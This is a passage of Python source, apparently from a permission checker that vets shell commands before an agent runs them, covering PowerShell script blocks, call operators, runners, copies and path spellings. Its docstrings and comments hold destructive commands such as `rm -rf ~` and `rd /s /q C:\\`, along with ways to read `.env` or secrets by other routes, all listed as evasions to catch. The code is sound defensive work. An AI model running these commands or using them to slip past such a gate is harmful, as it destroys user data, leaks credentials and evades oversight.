            st.opinion(REQUIRE_APPROVAL, "compound_uncovered", st.block_uncovered)
    return st


def _never_auto_opinion(st: _State, reading: SegmentReading, never_auto: str, doomed: bool) -> None:
    """Why the command is never auto-approved, as the opinion -- or the floor's deny for a script the command
    writes and then runs (`echo 'rm -rf ~' > x.sh && sudo bash x.sh`: permissions.where reads what it was
    written to hold; R4.6), which the floor was not asked about when no segment deletes by its name."""
    if never_auto == WRITTEN_THEN_RUN and not reading.may_delete:
        denied = _floor_where(st, reading, doomed)
        if denied is not None:
            st.opinion(DENY, denied[0], denied[1])
            return
    st.opinion(REQUIRE_APPROVAL, "unparseable", never_auto)


def _floor_more(command: str, parsed: ParsedCommand) -> bool:
    """R4.6: whether the floor reads a command no segment of which deletes by its name: a command word that may be a
    variable (`a=rm; $a -rf /`: where._verbs_given reads it with each value the command gives), PowerShell named
    anywhere (its deleters on Brabo's Linux sandbox too). Substring tests first (a search of hostile text costs)."""
    return (
        "pwsh" in command
        or "powershell" in command
        or verb_from_a_variable(parsed.segments, command)
        # `ln -s /bin/rm x && ./x -rf ~`
        or (COPY_WORD(command) is not None and verb_from_a_copy(parsed.segments, command))
    )


def _blocks_and_floor(
    st: _State, comp: CompiledPermissions, reading: SegmentReading, doomed: bool
) -> tuple[str, str] | None:
    """Step 4's denials of the whole command past its segments' own: a script block's statement off the sandbox
    (_script_blocks), then where a deletion lands (R4.6; off the sandbox Windows' deleters too)."""
    parsed = st.parsed
    assert parsed is not None
    denied = _script_blocks(st, comp, reading) if len(st.win_texts) > len(parsed.segments) else None
    if denied is None and st.dot_led:
        denied = _dot_led(st, comp, reading)
    if denied is None and (
        reading.may_delete
        or (not st.in_sandbox and (doomed or names_windows_deleter(reading.seg_views)))
        or _floor_more(st.req.command or "", parsed)
    ):
        denied = _floor_where(st, reading, doomed)
    return denied


def _parse_terminal(st: _State) -> ParsedCommand:
    """Off the sandbox, the command parsed (PowerShell's statements bash stopped at read as their commands:
    _powershell_read), and which Windows readings its texts need, read once (SPEC §5)."""
    command = st.req.command or ""
    parsed = parse_command(command)
    if (
        parsed.unparseable
        # (a Windows path's last `\` before a quote, which PowerShell keeps and bash reads as an escape)
        and (parsed.problem == _PAREN_AFTER_WORDS or (parsed.problem == _QUOTE_OPEN and '\\"' in command))
    ) or (
        # a .NET or item-method deletion bash reads another way (`(gi ~).Delete()`: a subshell running `gi ~`)
        "elete" in command and DELETION_CUE(command) is not None
    ):
        parsed = _powershell_read(st, parsed)
        command = st.req.command or ""
    texts = [s.text for s in parsed.segments]
    st.win_texts = windows_texts(texts) if "{" in command else texts  # a script block's statements too
    st.windows = windows_readings(st.win_texts)
    st.dot_led = (". " in command or ".\t" in command) and _DOT_LED.search(command) is not None
    return parsed


# A segment PowerShell's call operator `.` leads (`. git push` runs git push; bash sources a file named git)
_DOT_LED = re.compile(r"(?:^|[;&|\n(])\s*\.\s+[^\s]")


def _script_blocks(st: _State, comp: CompiledPermissions, reading: SegmentReading) -> tuple[str, str] | None:
    """SPEC §5, R4.7 (hidden commands are segments too), off the sandbox: each statement of a script block
    (`Get-ChildItem | ForEach-Object { git push }`: bash reads words of one `ForEach-Object` segment, PowerShell
    runs `git push` for each item) judged as a segment is -- a deny pattern denies (returned), an ask pattern
    asks (kept in ``reading``), an external effect or a privileged verb is a cap (``st.block_cap``, step 6),
    and one no allow covers as written is R4.4's uncovered segment (``st.block_uncovered``). A statement led by
    a value (`$_.Name`, `$_.Length -gt 1MB`, a number, a string) runs no command of its own."""
    parsed = st.parsed
    assert parsed is not None
    for i, seg in enumerate(parsed.segments):
        if "{" not in seg.text:
            continue
        for text in windows_statements(seg.text):
            found = _statement_read(st, comp, reading, text) or _statement_floor(st, text)
            if found is not None:
                if found[0] == "builtin_deny":
                    reading.out[i] = SegmentVerdict(seg.text, DENY, found[1])
                return found
    return None


def _statement_floor(st: _State, text: str) -> tuple[str, str] | None:
    """R4.6, SPEC §5: where a script block's statement deletes (`try { rd /s /q C:\\ } catch {}`), read as the
    floor reads a command's segments (permissions.where.floor_where), from where the command starts."""
    statement = parse_command(text)
    if statement.unparseable or not statement.segments:
        return None
    start = st.scope_of().cwd if (st.req.cwd or st.req.project.root) else UNKNOWN
    lands = floor_where(statement.segments, None, text, start, True)
    return None if lands is None else ("builtin_deny", BUILTIN_DENY[0])


def _dot_led(st: _State, comp: CompiledPermissions, reading: SegmentReading) -> tuple[str, str] | None:
    """SPEC §5, off the sandbox: a segment led by PowerShell's call operator `.` runs the command after it
    (`. git push`), read as a script block's statement is (_statement_read) for deny, ask and the caps; the
    segment's own allow (`Terminal(.)`, as bash reads it: a file sourced) stays what covers it."""
    parsed = st.parsed
    assert parsed is not None
    for seg in parsed.segments:
        if seg.words[:1] == (".",) and len(seg.words) > 1:
            found = _statement_read(st, comp, reading, seg.text, covered=False)
            if found is not None:
                return found
    return None


def _windows_rules(st: _State, comp: CompiledPermissions, reading: SegmentReading) -> tuple[str, str] | None:
    """SPEC §5, R4.10, off the sandbox: `Remove-Item -Recurse x` is `rm -r x` to a deny or ask pattern naming rm
    (_windows_spelt), and `pwsh -c 'git push'` runs `git push` (_runner_lines)."""
    denied = _windows_spelt(st, comp, reading) if comp.windows_posix else None
    return denied if denied is not None else _runner_lines(st, comp, reading)


_RUNNER_INITIALS = frozenset("cCpPiI")
_LINE_RUNNERS = frozenset(
    {"cmd", "cmd.exe", "powershell", "powershell.exe", "pwsh", "pwsh.exe", "iex", "invoke-expression"}
)


def _runner_lines(st: _State, comp: CompiledPermissions, reading: SegmentReading) -> tuple[str, str] | None:
    """SPEC §5, R4.10 (the same program reached another way), off the sandbox: each statement of the line a
    PowerShell or cmd runner is given (`pwsh -c 'git push'`, `cmd /c git push`, `powershell -Command "echo hi;
    git push"`) read as a script block's statement is (_statement_read) for deny, ask and the caps -- as bash
    -c's script is read as segments. The runner's own allow stays what covers the segment."""
    parsed = st.parsed
    assert parsed is not None
    segments = parsed.segments
    # (no text before the first one windows_readings marked can be read as a runner's; the texts are the segments'
    # when no script block's statements follow them)
    start = st.windows >> FIRST_LED_SHIFT if len(st.win_texts) == len(segments) else 0
    for seg in segments[start:]:
        words = seg.words
        if len(words) < 2 or words[0][:1] not in _RUNNER_INITIALS:
            continue
        head = words[0].lower()
        if head not in _LINE_RUNNERS:
            continue
        line = runner_line(head, words)
        if not line:
            continue
        for _, text in statement_texts(line):
            found = _statement_read(st, comp, reading, text.strip(), covered=False)
            if found is not None:
                return found
    return None


def _statement_read(
    st: _State, comp: CompiledPermissions, reading: SegmentReading, text: str, covered: bool = True
) -> tuple[str, str] | None:
    """One statement of a script block, read as _script_blocks says: a variable assigned what a command prints
    (`$x = git push`) is that command, and PowerShell's call operators (`. git push`, `& git push`) run the
    command they lead. ``covered``: whether an allow must cover the statement (R4.4)."""
    assigned = _ASSIGNED_FROM.match(text)
    for seg in parse_command(text if assigned is None else assigned.group(1)).segments:
        words = seg.words
        while len(words) > 1 and words[0] in (".", "&"):
            words = words[1:]
        if covered and words is not seg.words and words[0][:1] in "$(" and st.block_cap is None:
            # R4.9: `. $_`, `& $x`: a command named by a value, known only when it runs
            st.block_cap = ("unparseable", f"'{shown(text)}' runs a command named by a value")
        if not words or words[0][:1] in _VALUE_LEADS or words[0][:1].isdigit() or words[0] == "}":
            continue
        views = views_of(words)
        # as a segment is judged (permissions.segments.judge_segment): the floor, deny, ask, the allow as written
        verdict, pattern, kind = judge_segment(seg._replace(words=words), views, comp, True, True, None)
        if verdict == DENY:
            return (kind or "deny_rule", pattern or "")
        if verdict == REQUIRE_APPROVAL and reading.asked is None:
            reading.asked = pattern
        if st.block_cap is None and any(_external_view(v) or privileged_view(v) for v in views if v):
            st.block_cap = ("cap_external_effect", text)
        if (
            covered
            and st.block_uncovered is None
            and (verdict != AUTO_APPROVE or len(seg.words) - len(words) in seg.dynamic)
        ):
            st.block_uncovered = text
    return None


# A statement's first character that makes it a value, not a command (PowerShell's expression mode)
_VALUE_LEADS = frozenset("$'\"-@[")
_ASSIGNED_FROM = re.compile(r"\$[\w:{}.]+\s*[-+*/%?]?=(?!=)\s*(.+)", re.S)


def _environment_rules(
    parsed: ParsedCommand, reading: SegmentReading, comp: CompiledPermissions
) -> tuple[str, str] | None:
    """R4.10, for a command that assigns: a deny (else an ask) pattern met once a segment is read with what its
    environment gives it -- the options its program reads from variables an earlier segment exported (`export
    PIP_USER=1 && pip install x`: permissions.exported.exported_options), the assignments a pattern sets before its
    program (`CI=1 NODE_ENV=production npm run deploy` for `NODE_ENV=production npm run deploy`: assigned_rules).
    The deny is returned; an ask is kept in ``reading`` as a segment's own would be."""
    finders = []
    if len(parsed.segments) > 1 and comp.reads_environment:
        finders.append(exported_options)
    if comp.env_led:
        finders.append(assigned_rules)
    for find in finders:
        hit = find(parsed.segments, reading.seg_views, comp)
        if hit is not None:
            i, rank, pattern = hit
            denied = _segment_named(reading, i, parsed.segments[i].text, rank, pattern.text)
            if denied is not None:
                return denied
    return None


def _segment_named(
    reading: SegmentReading, i: int, text: str, rank: int, pattern: str
) -> tuple[str, str] | None:
    """Segment ``i`` (``text``) named by a deny (rank DENY_RANK: returned as the command's denial) or an ask
    pattern (kept in ``reading`` as a segment's own would be, the first one only)."""
    if rank == DENY_RANK:
        reading.out[i] = SegmentVerdict(text, DENY, pattern)
        return ("deny_rule", pattern)
    if reading.asked is None:
        reading.out[i] = SegmentVerdict(text, REQUIRE_APPROVAL, pattern)
        reading.asked = pattern
    return None


def _paths_spelt(st: _State, comp: CompiledPermissions, reading: SegmentReading) -> tuple[str, str] | None:
    """R4.10, for a rule set whose deny or ask patterns name a path: a segment that names the same place another
    way from where it runs -- an absolute path inside that folder (`cat /srv/ws/app/.env`, `cat "$PWD/.env"` for a
    deny of `cat .env`), or a relative one for a pattern's absolute path (`cd /srv && rm -rf data` for `rm -rf
    /srv/data`) -- is read with its paths written the pattern's way too, from each folder it may run in
    (permissions.where.cwd_sets). The deny is returned; an ask is kept in ``reading`` as a segment's own would be."""
    parsed = st.parsed
    if (
        parsed is None
        or len(parsed.segments) != len(reading.out)
        or len(reading.seg_views) != len(reading.out)
    ):
        return None  # (a script block's statements, or a doomed command's views not kept: not this reading)
    named = comp.path_rules
    segments = parsed.segments
    shell_reads = (
        PRINTS_A_PLACE in named
    )  # (a rule printing a place: what the shell itself reads from one too)
    deletes = DELETES_A_PLACE in named
    todo = _spelt_todo(st, reading, named, shell_reads)
    if not todo:
        return None  # no pattern names a path of these segments' programs
    scope = st.scope_of()
    command = st.req.command or ""
    # (a `cd` to a variable the command gives a value: `d=secrets; cd $d && cat prod.json`)
    values = command_values(segments, command, scope.cwd) if "$" in command and "cd" in command else {}
    sets = cwd_sets(segments, command, scope.cwd, floor=False, values=values, windows=scope.windows)
    copied: list[tuple[str, str, str, bool]] | None = None
    dotglob = _DOTGLOB.search(command) is not None
    for i, views, fed_read in todo:
        seg = segments[i]
        dirs = _likely(sets[i]) if sets is not None and i < len(sets) else (scope.cwd,)
        before: list[tuple[str, ...]] = []
        if (
            "~" in seg.text
            or "OLDPWD" in seg.text
            or "dir " in seg.text  # find's -execdir, -okdir
            or seg.words[:1]
            and seg.words[0] in CHDIR_WRAPPERS
        ):
            others, before = _other_folders(seg, views, dirs, sets, i, scope.cwd)
            dirs = _likely(others)
        # `git show HEAD:.env`, `git log -p .env`, `dd if=.env` read as `cat .env` (and from each folder too)
        blobs = [*fed_read, *(v for view in views for v in content_reads(view))] if shell_reads else []
        # `find data -delete`, `git clean -fdx data` read as `rm -rf data`
        blobs += [v for view in views for v in deletion_views(view)] if deletes else []
        if (shell_reads or deletes) and (seg.words[:1] in _HANDING or "$" in seg.text or "`" in seg.text):
            blobs += _handed(segments, command, i, scope.cwd, views, dirs)
        blobs += _sourced_or_dotted(seg, views, shell_reads, dotglob)
        unsure: list[tuple[str, ...]] = []
        if shell_reads:
            printed, unsure = _loaded_and_printed(reading.seg_views[i], views)
            blobs += printed
            unsure += _sourced_maybe(segments, i)
            ran, maybe = _scripts_run(views)
            blobs += ran
            unsure += maybe
        blobs += before
        # what the program reads from an input redirect is its operand too (`cat < .env` reads `.env`)
        fed = [seg.redirects[k] for k in sorted(seg.inputs) if k < len(seg.redirects)] if seg.inputs else []
        given = [(*view, *fed) for view in views] if fed else []
        if shell_reads:
            unsure += _maybe_read(views, fed, comp.printed_places, scope.cwd, dirs)
        if given and shell_reads:  # a program printing what it is fed (`op inject < .env`)
            blobs += _fed_printed(seg, given, fed)
        spelt = [
            *given,
            *blobs,
            *(
                v
                for d in sorted(dirs)[:4]
                if d != UNKNOWN
                for view in (*views, *given, *blobs)
                for v in paths_from(view, d, scope.cwd)
            ),
        ]
        if copied is None:
            copied = _copied_places(reading, segments, sets, scope)
        if copied:  # the place a copy, a move or a link made in the command read by its new name
            moved = _read_through_copies(copied, (*views, *given, *blobs), dirs)
            if len(copied) > _MAX_COPIED or len(moved) > _MAX_COPIED:
                # fail closed: more than is read one by one -- what is left unread may be the place (R4.8)
                st.block_cap = st.block_cap or ("unparseable", _TOO_MANY_COPIES)
                moved = moved[:_MAX_COPIED]
            spelt += [*moved, *(v for view in moved for v in paths_from(view, scope.cwd, scope.cwd))]
            unsure += _copies_read_below(
                copied, views, moved, comp.printed_places if shell_reads else (), scope.cwd, dirs
            )
        if not st.in_sandbox:
            # SPEC §5: the developer's machine may name files in any case (macOS's and Windows' file systems
            # fold it): `cat .ENV` reads `.env`
            spelt += [v for view in (*views, *spelt) if (v := comp.places_as_ruled(view)) is not None]
        hit = comp.deny_or_ask(spelt) if spelt else None
        if hit is None and unsure:  # may print it: asks, never denies (R4.8)
            unsure += [
                v
                for d in sorted(dirs)[:4]
                if d != UNKNOWN
                for u in unsure
                for v in paths_from(u, d, scope.cwd)
            ]
            hit = comp.deny_or_ask(unsure)
            hit = (max(hit[0], ASK_RANK), hit[1]) if hit is not None else None
        denied = _segment_named(reading, i, seg.text, hit[0], hit[1].text) if hit is not None else None
        if denied is not None:
            return denied
    return None


def _likely(dirs: Iterable[str]) -> tuple[str, ...]:
    """The folders a segment may run in that _paths_spelt reads it from, at most four: the known ones first, the
    nearest first (red team: a loop has cwd_sets read the whole command as repeated, so `cd secrets && for f in *;
    do cat "$f"; done` may run in `secrets/secrets/...` and in folders past an unknown one, which sort before
    `secrets` itself)."""
    return nearest(dirs, 4)


# R4.10, red team: the words a folder the command was in before names -- the shell's previous folder (`~-`,
# `$OLDPWD`, `${OLDPWD}`) and its directory stack (`~1`, `~-1`, `~+1`) -- and the one it is in (`~+`, as `$PWD`).
_BEFORE = re.compile(r"~-\d*(?=/|$)|~\+?\d+(?=/|$)|\$OLDPWD(?!\w)|\$\{OLDPWD\}")
_HERE = re.compile(r"~\+(?=/|$)")


def _other_folders(
    seg: Segment,
    views: Sequence[tuple[str, ...]],
    dirs: Iterable[str],
    sets: list[frozenset[str]] | None,
    i: int,
    start: str,
) -> tuple[frozenset[str], list[tuple[str, ...]]]:
    """The folders segment ``i`` may run in with the one a wrapper's option sets (`env -C src cat ../.env`), and its
    views with the words naming a folder the command was in before written from there (_from_before)."""
    here = frozenset(dirs)
    if seg.words[:1] and seg.words[0] in CHDIR_WRAPPERS:
        here |= wrapper_chdirs(seg.words, here)
    if seg.words[:1] == ("find",):
        here |= execdir_folders(seg.words, here)  # `find src -name x -execdir cat ../.env \;`
    before = (
        _from_before(views, here, _earlier(sets, i, start)) if "~" in seg.text or "OLDPWD" in seg.text else []
    )
    return here, before


def _earlier(sets: list[frozenset[str]] | None, i: int, start: str) -> frozenset[str]:
    """Every folder the command may have been in before segment ``i``, the one it started in among them (the shell's
    own previous folder is not known: the start and the home folder stand for it)."""
    before = {start, HOME}
    for k in range(min(i, len(sets)) if sets is not None else 0):
        before.update(sets[k])  # type: ignore[index]
    before.discard(UNKNOWN)
    return frozenset(before)


def _from_before(
    views: Sequence[tuple[str, ...]], dirs: Iterable[str], earlier: frozenset[str]
) -> list[tuple[str, ...]]:
    """``views`` with each word a _BEFORE or _HERE prefix leads written from each folder it may name (``earlier``,
    ``dirs``): `cat ~-/.env` after `cd /tmp` as `cat /srv/ws/app/.env`; [] when no word has one."""
    out: list[tuple[str, ...]] = []
    for view in views:
        for k, w in enumerate(view):
            if w[:1] not in ("~", "$"):
                continue
            m = _BEFORE.match(w)
            folders: Iterable[str] = earlier if m is not None else dirs
            if m is None and (m := _HERE.match(w)) is None:
                continue
            for folder in sorted(folders)[:4]:
                if folder != UNKNOWN:
                    out.append((*view[:k], folder.rstrip("/") + w[m.end() :] or "/", *view[k + 1 :]))
    return out


def _loaded_and_printed(
    seg_views: Sequence[tuple[str, ...]], views: Sequence[tuple[str, ...]]
) -> tuple[list[tuple[str, ...]], list[tuple[str, ...]]]:
    """R4.10: the files a loader among ``views`` loads into the environment of the command it runs
    (file_printers.loaded_files) as `cat` views -- printed when a view of the segment prints the environment
    (`dotenv -e .env -- printenv`: the first list), maybe printed when it runs inline code or echoes a variable
    (`dotenv -- node -e '...'`, `dotenv -- sh -c 'echo $KEY'`: the second, which asks); ([], []) otherwise."""
    loaded: list[tuple[str, ...]] = [("cat", f) for view in views for f in loaded_files(view)]
    if not loaded:
        return [], []
    if any(map(prints_environment, seg_views)):
        return loaded, []
    if any(_may_print_environment(v) for v in seg_views):
        return [], loaded
    return [], []


_PRINTS_A_VARIABLE = re.compile(r"\$|\b(?:env|printenv|set|export|declare)\b")


def _may_print_environment(view: tuple[str, ...]) -> bool:
    """Inline code (`node -e`, `sh -c`), or a printer of a variable (`echo $KEY`)."""
    if not view:
        return False
    if view[0] in SHELLS:  # a command line whose words expand a variable or print the environment
        at = inline_script(view)[0]
        return at is not None and at < len(view) and bool(_PRINTS_A_VARIABLE.search(view[at]))
    return inline_program(view) is not None or (
        view[0] in ("echo", "printf") and any("$" in w for w in view[1:])
    )


_BATCH = frozenset({"--batch", "--batch-command"})  # (git cat-file's contents by name; not --batch-check)
_HANDING = (("xargs",), ("find",), ("git",))  # (the programs handing another what a list holds: _handed)


def _copied_places(
    reading: SegmentReading, segments: Sequence[Segment], sets: list[frozenset[str]] | None, scope: Scope
) -> list[tuple[str, str, str, bool]]:
    """R4.10: what the command's copies, moves and links leave (permissions.commands.copies), as (the new place,
    the original, a glob the first name below the new place must match or "", whether the new name is the original
    itself -- a move or a link -- rather than a copy), absolute, each read from every folder its segment may run in.
    A copy anywhere in the command counts for every segment (a loop runs a later one first): reading a copy's own
    path as the original's only ever refuses more."""
    out: list[tuple[str, str, str, bool]] = []
    for j, seg_views in enumerate(reading.seg_views):
        for view in seg_views:
            if not view or view[0].rpartition("/")[2] not in COPIERS:
                continue
            dirs = sets[j] if sets is not None and j < len(sets) else (scope.cwd,)
            for copy in _redirected(copies_in(view), segments[j] if j < len(segments) else None):
                for d in sorted(dirs)[:4]:
                    if d != UNKNOWN:
                        out += _landed(copy, d, scope)
                if len(out) > _MAX_COPIED:
                    return list(dict.fromkeys(out))[: _MAX_COPIED + 1]  # (more than is read: the caller asks)
    return list(dict.fromkeys(out))


def _redirected(copies: list[Copy], seg: Segment | None) -> list[Copy]:
    """``copies`` and, for one that writes or reads the standard streams (copies.STREAM), the same with the
    segment's redirection in their place: `git archive HEAD > /tmp/a.tar` makes /tmp/a.tar, `tar xf - -C /tmp/o <
    /tmp/a.tar` unpacks it."""
    if seg is None or not seg.redirects:
        return copies
    out = list(copies)
    for copy in copies:
        if copy.to == STREAM:
            out += [replace(copy, to=t) for t in seg.written() if t[:1] != "&" and t != "/dev/null"]
        if STREAM in copy.originals:
            fed = tuple(seg.redirects[k] for k in sorted(seg.inputs) if k < len(seg.redirects))
            out += [replace(copy, originals=fed)] if fed else []
    return out


_MAX_COPIED = 64
_TOO_MANY_COPIES = "it copies, moves or links more places than are read one by one, and a rule names a place it may read through them"


def _landed(copy: Copy, d: str, scope: Scope) -> list[tuple[str, str, str, bool]]:
    """:func:`_copied_places` of one copy run in folder ``d``."""
    here = d.rstrip("/") + "/"
    to = d if copy.to in HERE else place_of(copy.to, here)
    if to is None:
        return []
    out: list[tuple[str, str, str, bool]] = []
    found: list[str | None]
    for word in copy.originals:
        if word == REPOSITORY:
            found = [d, *scope.roots]
        else:
            found = [d if word in HERE else place_of(word, here)]
            if copy.link and word[:1] not in ("/", "~", "$"):  # a link's target, read from the link's folder
                found += [place_of(word, to.rpartition("/")[0] + "/"), place_of(word, to + "/")]
        for original in dict.fromkeys(p for p in found if p is not None):
            out += [(*landed, copy.same) for landed in _shaped(copy.shape, word, original, to)]
    return out


def _shaped(shape: str, word: str, original: str, to: str) -> list[tuple[str, str, str]]:
    """Where ``original`` (written ``word``) lands under ``to`` in ``shape``."""
    folder, _, name = original.rpartition("/")
    if _GLOB_CHARS.intersection(name):  # `cp secrets/* /tmp/`: each name the glob picks, inside `to`
        return [(to, folder or "/", name)]
    contents = word in HERE or word.endswith(("/", "/."))  # `rsync -a src/ dst`, `cp -r src/. dst`
    inside = (f"{to}/{fold_path(word).lstrip('/')}" if shape == PARENTS else f"{to}/{name}", original, "")
    if shape == AS or (contents and (shape != PARENTS or word in HERE)):
        return [(to, original, ""), inside] if contents and shape != AS else [(to, original, "")]
    return [inside, (to, original, "")] if shape == EITHER else [inside]


_GLOB_CHARS = frozenset("*?[")


def _read_through_copies(
    copied: list[tuple[str, str, str, bool]], views: Sequence[tuple[str, ...]], dirs: Iterable[str]
) -> list[tuple[str, ...]]:
    """``views`` with each path that lies in a copy's new place written as the original's (absolute), through
    up to three copies in a row (`cp -r . /tmp/p && mv /tmp/p/secrets /tmp/s && cat /tmp/s/prod.key`). A copy
    (not a move or a link) counts for a program that reads or runs it, not for one acting on its name
    (copies.ON_THE_NAME: `rm -rf` of a copy deletes no original)."""
    out: list[tuple[str, ...]] = []
    for d in sorted(dirs)[:4]:
        if d == UNKNOWN:
            continue
        here = d.rstrip("/") + "/"
        for view in views:
            named = view[0].rpartition("/")[2] in ON_THE_NAME
            for k in range(1, len(view)):
                place = place_of(view[k], here)
                if place is None:
                    continue
                for original in _originals(copied, place, named):
                    out.append(_with_original(view, k, original))
                if len(out) > _MAX_COPIED:
                    return out  # (more than is read: the caller asks)
    return list(dict.fromkeys(out))


def _with_original(view: tuple[str, ...], k: int, original: str) -> tuple[str, ...]:
    """``view`` with its word ``k`` written as ``original``: whole for a short view; for a long one (hostile input:
    `cat` of four hundred paths in a copy), its program, the words before ``k`` that name no path (options, a
    pattern) and the original -- what a rule naming the place meets, without reading every other word again."""
    if len(view) <= _WHOLE_VIEW:
        return (*view[:k], original, *view[k + 1 :])
    return (view[0], *[w for w in view[1:k] if "/" not in w][:_WHOLE_VIEW], original)


_WHOLE_VIEW = 16


def _originals(copied: list[tuple[str, str, str, bool]], place: str, same_only: bool) -> list[str]:
    found: list[str] = []
    todo = [place]
    for _ in range(3):
        todo = [
            original + tail
            for p in todo
            for to, original, glob, same in copied
            if (same or not same_only)
            and (tail := _below(p, to)) is not None
            and (not glob or (tail and fnmatchcase(tail[1:].partition("/")[0], glob)))
        ][: _MAX_COPIED + 1]  # (past it, the caller asks: _read_through_copies' answer is longer than read)
        found += todo
        if not todo or len(found) > _MAX_COPIED:
            break
    return found


def _below(place: str, folder: str) -> str | None:
    """The rest of ``place`` below ``folder`` ("" for the folder itself, else starting with `/`), or None."""
    if place == folder:
        return ""
    if place.startswith(folder) and (folder == "/" or place[len(folder)] == "/"):
        return place[len(folder) :] if folder != "/" else place
    return None


# R4.10, red team: a command that has its globs match a leading dot -- bash's `shopt -s dotglob`, any value of
# GLOBIGNORE (which turns dotglob on), zsh's `setopt globdots` (any case, any underscores) -- expands `cat *env`
# to `.env` too.
_DOTGLOB = re.compile(r"dotglob|globignore|glob_?dots", re.IGNORECASE)


def _spelt_todo(
    st: _State, reading: SegmentReading, named: frozenset[str], shell_reads: bool
) -> list[tuple[int, list[tuple[str, ...]], list[tuple[str, ...]]]]:
    r"""_paths_spelt's segments to read: (index, the views a pattern names a path for -- or the shell's own read --,
    what a feed runner, the shell's `read` or fd's `-x` reads and hands on: `xargs < .env`, `parallel echo :::: .env`,
    `IFS= read -r x < .env`, `fd -H '^\.env$' -x cat`, as `cat` of it or the command it runs), for each segment not
    denied already with either."""
    assert st.parsed is not None
    segments = st.parsed.segments
    every = "" in named
    command = st.req.command or ""
    todo = []
    for i, seg_views in enumerate(reading.seg_views):
        views = [
            v for v in seg_views if v and (every or v[0] in named or v[0].rpartition("/")[2] in named)
        ] or (_shell_read(segments, i) if shell_reads else [])
        fed = fed_reads(seg_views, segments, i, command, lambda: st.scope_of().cwd) if shell_reads else []
        if (views or fed) and reading.out[i].verdict != DENY:
            todo.append((i, views, fed))
    return todo


def _fed_printed(seg: Segment, given: list[tuple[str, ...]], fed: list[str]) -> list[tuple[str, ...]]:
    """What a program prints of the files it is fed on its input (content_reads of its views with them as
    operands), and a shell reader's too when content_reads knows the program otherwise (`dd < .env`)."""
    out = [v for view in given for v in content_reads(view)]
    if seg.words[:1] and seg.words[0] in _SHELL_READERS:
        out.append(("cat", *fed))
    return out


def _maybe_read(
    views: list[tuple[str, ...]], fed: list[str], places: tuple[str, ...], start: str, dirs: Iterable[str]
) -> list[tuple[str, ...]]:
    """For a rule printing a place, what a segment may print of one (asked): the places below a folder it reads
    whole (_read_below), a file a script runner or a database client is fed (`psql < .env`, `python3 < .env`)."""
    out = _read_below(views, places, start, dirs) if views and views[0][0] in RECURSIVE_READERS else []
    if fed and any(v[0].rpartition("/")[2] in FED_SCRIPTS for v in views):
        out += [("cat", f) for f in fed]
    return out


def _copies_read_below(
    copied: list[tuple[str, str, str, bool]],
    views: Sequence[tuple[str, ...]],
    moved: Sequence[tuple[str, ...]],
    places: tuple[str, ...],
    start: str,
    dirs: Iterable[str],
) -> list[tuple[str, ...]]:
    """R4.10, red team: _read_below through the command's copies -- a folder read whole that a copy made (`cp -r
    secrets /tmp/s && grep -r KEY /tmp/s`: ``moved`` holds the view with the original), or that holds one (`git add
    -f .env && git diff --cached`: git's store, copies.GIT_STORE, holds the staged copy; `cp -r secrets /tmp/x/s &&
    rg KEY /tmp/x`): the places a rule names below each original, as `cat` of each (asked)."""
    if not places:
        return []  # (no rule prints a place)
    out = _read_below([v for v in moved if v[0] in RECURSIVE_READERS], places, start, dirs)
    top = fold_path(start)
    absolute = _absolute(places, top)
    readers = [v for v in views if v and v[0] in RECURSIVE_READERS]
    for f in _folders_read_whole(readers, dirs):
        for to, original, _, _ in copied:
            if _below(to, f) is not None:
                out += _held_below(original, absolute, top)
    return out[:_MAX_COPIED]


def _read_below(
    views: Sequence[tuple[str, ...]], places: tuple[str, ...], start: str, dirs: Iterable[str]
) -> list[tuple[str, ...]]:
    """R4.10, red team: the places a rule printing them names below a folder a view reads every file of and prints
    (permissions.commands.recursive_reads: `grep -r KEY secrets`, `tar cf - secrets` for `cat secrets/prod.json`),
    as `cat` of each -- which asks (the file may be skipped: ignored, binary, not matched). Not the folder the
    command starts in read whole (`grep -rn TODO .`: a project's everyday search, the friction ruling), nor a folder
    holding it (`grep -r token /`: outside the project, the path scope's answer)."""
    top = fold_path(start)
    absolute = _absolute(places, top)
    return [v for f in _folders_read_whole(views, dirs) for v in _held_below(f, absolute, top)]


def _absolute(places: tuple[str, ...], top: str) -> list[tuple[str, str]]:
    """Each place a rule names, with its absolute path from the folder the command starts in."""
    return [(p, fold_path(p if p[:1] in ("/", "~") else f"{top}/{p}")) for p in places]


def _folders_read_whole(views: Sequence[tuple[str, ...]], dirs: Iterable[str]) -> list[str]:
    """The absolute folders ``views`` read every file of (recursive_reads.folders_read), from each folder they may
    run in."""
    return [
        fold_path(folder if folder[:1] in ("/", "~") else f"{d}/{folder}")
        for view in views
        for folder in folders_read(view)
        for d in sorted(dirs)[:4]
    ]


def _held_below(folder: str, absolute: list[tuple[str, str]], top: str) -> list[tuple[str, ...]]:
    """`cat` of each place (``absolute``: _absolute's) below ``folder`` -- none when ``folder`` is the starting folder
    or one holding it (the path scope's to judge)."""
    if _below(top, folder) is not None:
        return []
    return [("cat", p) for p, at in absolute if _below(at, folder) is not None]


def _sourced_or_dotted(
    seg: Segment, views: list[tuple[str, ...]], shell_reads: bool, dotglob: bool
) -> list[tuple[str, ...]]:
    """_paths_spelt's views of a sourced file (_shell_read's `cat` of it: no view of the segment's own) and, in a
    command that has globs match a leading dot, of each glob so read (_dotted)."""
    out = views if shell_reads and seg.words[:1] and seg.words[0] in SOURCING else []
    if dotglob and ("*" in seg.text or "?" in seg.text):
        out = [*out, *_dotted(views)]
    return out


def _dotted(views: list[tuple[str, ...]]) -> list[tuple[str, ...]]:
    """Each view with a glob operand led by `*` or `?` written as each glob led by the dot it may then match
    (glob_syntax.dotted_globs: `*env` as `.*env`, `?env` as `.env`), one operand at a time."""
    return [
        (*view[:k], d, *view[k + 1 :])
        for view in views
        for k in range(1, min(len(view), _WHOLE_VIEW))
        for d in dotted_globs(view[k])
    ]


def _found_elsewhere(words: tuple[str, ...], dirs: Sequence[str], start: str) -> list[tuple[str, ...]]:
    """find's words with the folder it runs in (`.`, or none named) written as each other folder the segment may
    run in: `cd secrets && find . -type f -exec cat {} +` searches `secrets`, which where.picked_by_name reads as
    any folder named (only the command's own starting folder is left out, as for `grep -r`)."""
    k = find_expression_at(words)
    if k > 1 and not any(w in (".", "./") for w in words[1:k]):
        return []
    starts = [w for w in words[1:k] if w not in (".", "./")]
    return [(words[0], d, *starts, *words[k:]) for d in dirs if d != start and not d.startswith(UNKNOWN)]


def _handed(
    segments: Sequence[Segment],
    command: str,
    i: int,
    cwd: str,
    views: list[tuple[str, ...]],
    dirs: Sequence[str] = (),
) -> list[tuple[str, ...]]:
    """R4.10, for a rule printing a place: segment ``i``'s views with what it is handed when it runs
